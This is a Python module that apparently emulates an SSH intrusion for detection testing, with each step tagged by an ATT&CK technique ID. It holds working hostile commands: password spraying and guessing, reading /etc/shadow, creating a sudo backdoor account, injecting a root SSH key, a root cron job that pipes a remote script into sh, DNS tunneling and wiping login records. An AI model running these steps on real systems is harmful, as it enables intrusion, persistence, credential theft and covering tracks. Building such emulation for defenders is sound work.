"""The attack over SSH: guess a password, log in, take the machine over, plant ways back, hide, talk out over DNS."""

from __future__ import annotations

import random
import subprocess
import time
from concurrent.futures import ThreadPoolExecutor

import ssh_client
from clock import Clock
from journal import Journal
from people import SUDO_TURN, ask
from world import (
    BACKDOOR_PASSWORD,
    BACKDOOR_USER,
    COMMON_NAMES,
    COMMON_PASSWORDS,
    DROP_URL,
    GUESSERS,
    INTRUDER,
    INTRUDER_AGAIN,
    PROBER,
    SPRAY_PASSWORD,
    SPRAYERS,
    TUNNEL_CLIENT,
    TUNNEL_DOMAIN,
    WEAK_PASSWORD,
    WEAK_USER,
)

_AS_ROOT = frozenset(("sudo", "useradd", "usermod", "chpasswd", "crontab"))
_DEEDS = (
    ("T1033", "discovery", "asks who it is", "sudo id"),
    ("T1003.008", "credential-access", "reads the password hashes", "sudo cat /etc/shadow"),
    (
        "T1136.001",
        "persistence",
        f"makes the account {BACKDOOR_USER}",
        f"sudo useradd -m -s /bin/bash {BACKDOOR_USER}; echo {BACKDOOR_USER}:{BACKDOOR_PASSWORD} | sudo chpasswd",
    ),
    ("T1098.007", "persistence", f"puts {BACKDOOR_USER} into the group sudo", f"sudo usermod -aG sudo {BACKDOOR_USER}"),
    (
        "T1098.004",
        "persistence",
        "adds its key to root's",
        "sudo mkdir -p /root/.ssh; cat /etc/ssh/examples_host_key.pub | sudo tee -a /root/.ssh/authorized_keys",
    ),
    (
        "T1053.003",
        "persistence",
        "plants a cron job for root that fetches a script",
        f"echo '* * * * * curl -fsS {DROP_URL} | sh' | sudo crontab -u root -",
    ),
)
_COVER = (
    "T1070.002",
    "defense-evasion",
    "empties the log-in records",
    "sudo truncate -s 0 /var/log/wtmp /var/log/btmp",
)


def _probe(journal: Journal) -> None:
    target = PROBER.replace("127.0.", "127.1.")
    command = ["nmap", "-Pn", "-n", "-sT", "-sV", "--version-intensity", "2", "-p", "22", target]
    with journal.step("T1595.002", "reconnaissance", "asks the servers for their versions (nmap)", addresses=(PROBER,)):
        subprocess.run(command, capture_output=True, timeout=120, check=False)
        time.sleep(2)


def _spray(journal: Journal, pause_s: float, rng: random.Random) -> None:
    """One password, many names, many addresses."""
    with journal.step(
        "T1110.003", "credential-access", f"tries one password on {len(COMMON_NAMES)} names", addresses=SPRAYERS
    ):
        for name, source in zip(COMMON_NAMES, SPRAYERS, strict=True):
            ssh_client.with_password(name, SPRAY_PASSWORD, source, "true")
            time.sleep(rng.uniform(0, pause_s))


def _guess(journal: Journal) -> None:
    """Many passwords, two names, three addresses, at once."""
    tries = [(name, password) for password in COMMON_PASSWORDS for name in ("root", WEAK_USER)]
    with (
        journal.step(
            "T1110.001", "credential-access", f"guesses the passwords of root and {WEAK_USER}", addresses=GUESSERS
        ),
        ThreadPoolExecutor(3) as pool,
    ):
        for number, (name, password) in enumerate(tries):
            pool.submit(ssh_client.with_password, name, password, GUESSERS[number % 3], "true")
        pool.shutdown()
        ssh_client.with_password(WEAK_USER, WEAK_PASSWORD, INTRUDER, "true")
        time.sleep(1)
    time.sleep(3)


def _break_in(journal: Journal, pause_s: float) -> None:
    with journal.step(
        "T1078.003", "initial-access", f"logs in as {WEAK_USER}", addresses=(INTRUDER,), session_of=INTRUDER
    ):
        terminal = ssh_client.Terminal(WEAK_USER, INTRUDER, password=WEAK_PASSWORD)
    journal.from_now_on(
        "T1053.003",
        "persistence",
        "the planted cron job runs",
        words=(DROP_URL, "RELOAD (crontabs/root)", "No MTA installed"),
    )
    for technique, tactic, what, command in _DEEDS:
        _do(journal, terminal, technique, tactic, what, command, INTRUDER)
        time.sleep(pause_s)
    with journal.step("T1078.003", "initial-access", "logs out", addresses=(INTRUDER,), session_of=INTRUDER):
        terminal.leave()
        time.sleep(1.5)


def _do(
    journal: Journal, terminal: ssh_client.Terminal, technique: str, tactic: str, what: str, command: str, source: str
) -> None:
    """Type one command while nobody else uses sudo, with a second of silence on both sides."""
    with SUDO_TURN:
        time.sleep(1.2)
        with journal.step(technique, tactic, what, programs=tuple(_AS_ROOT), session_of=source):
            terminal.type(command, 2)
        time.sleep(1.2)


def _tunnel(journal: Journal, rng: random.Random) -> None:
    """Data in the names of DNS questions."""
    with journal.step("T1071.004", "command-and-control", "carries data in DNS questions", words=(TUNNEL_DOMAIN,)):
        for number in range(40):
            ask(f"{number:04x}.{rng.randbytes(14).hex()}.{rng.randbytes(14).hex()}.{TUNNEL_DOMAIN}", TUNNEL_CLIENT)
            time.sleep(rng.uniform(0.2, 1.2))
        time.sleep(1)


def _come_back(journal: Journal) -> None:
    with journal.step(
        "T1078.003",
        "persistence",
        f"logs in with the account it made, {BACKDOOR_USER}",
        addresses=(INTRUDER_AGAIN,),
        session_of=INTRUDER_AGAIN,
    ):
        terminal = ssh_client.Terminal(BACKDOOR_USER, INTRUDER_AGAIN, password=BACKDOOR_PASSWORD)
    technique, tactic, what, command = _COVER
    with SUDO_TURN:
        time.sleep(1.2)
        with journal.step(technique, tactic, what, programs=tuple(_AS_ROOT), session_of=INTRUDER_AGAIN):
            terminal.type(command)
            terminal.type(BACKDOOR_PASSWORD, 2)
        time.sleep(1.2)
    with journal.step("T1078.003", "persistence", "logs out", addresses=(INTRUDER_AGAIN,), session_of=INTRUDER_AGAIN):
        terminal.leave()
        time.sleep(1.5)


def attack(clock: Clock, journal: Journal, seed: int) -> None:
    """The whole attack, spread over the run."""
    rng = random.Random(seed)
    clock.wait_until(0.16)
    _probe(journal)
    clock.wait_until(0.22)
    _spray(journal, clock.length_s / 150, rng)
    clock.wait_until(0.42)
    _guess(journal)
    clock.wait_until(0.52)
    _break_in(journal, clock.length_s / 100)
    clock.wait_until(0.72)
    _tunnel(journal, rng)
    clock.wait_until(0.86)
    _come_back(journal)
